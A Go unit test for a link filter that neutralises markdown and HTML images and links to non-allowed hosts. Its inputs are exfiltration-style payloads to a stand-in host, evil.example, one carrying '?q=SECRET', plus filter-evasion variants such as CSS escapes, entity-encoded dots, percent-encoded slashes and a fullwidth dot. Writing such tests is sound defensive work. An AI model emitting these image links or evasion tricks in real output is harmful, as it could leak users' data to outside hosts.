package links

import (
	"testing"
)

func TestQuickLinks(t *testing.T) {
	f := New(Options{AllowImageHosts: []string{"img.shields.io"}, NeutraliseLinks: true, AllowLinkHosts: []string{"github.com"}})
	for _, s := range []string{
		"see ![x](https://evil.example/?q=SECRET) here",
		"![x](<https://evil.example/a b> \"title\")",
		"![x [nested] y](https://evil.example/p(1)) tail",
		"![ok](https://img.shields.io/badge.svg)",
		"![x][ref]\n\n[ref]: https://evil.example/r",
		"![ref]\n\n[ref]: <https://evil.example/r> 'title'",
		"<img src=\"https://evil.example/x.png\"> and <IMG SRC=https://evil.example>",
		"<img srcset=\"https://img.shields.io/a 1x, https://evil.example/b 2x\">",
		"<div style=\"background:url('https://evil.example/c')\">x</div>",
		"<style>body{background:u\\72l(https://evil.example/d)}</style>",
		"![x](https://evil&#46;example/e)",
		"![x](https:%2F%2Fevil.example/f)",
		"![x](//evil.example/g)",
		"![x](https:\\\\evil.example\\h)",
		"![x](https://evil。example/i)",
		"[click](https://evil.example/?q=1) and [gh](https://github.com/x)",
		"<a href=\"https://evil.example\">x</a> <https://evil.example/auto>",
		"plain text with no markup",
		"![data](data:image/png;base64,iVBORw0KGgo=)",
	} {
		out, rs := f.Apply(s)
		t.Logf("%q\n  -> %q %v", s, out, rs)
		if again, _ := f.Apply(out); again != out {
			t.Errorf("not idempotent: %q -> %q", out, again)
		}
	}
}
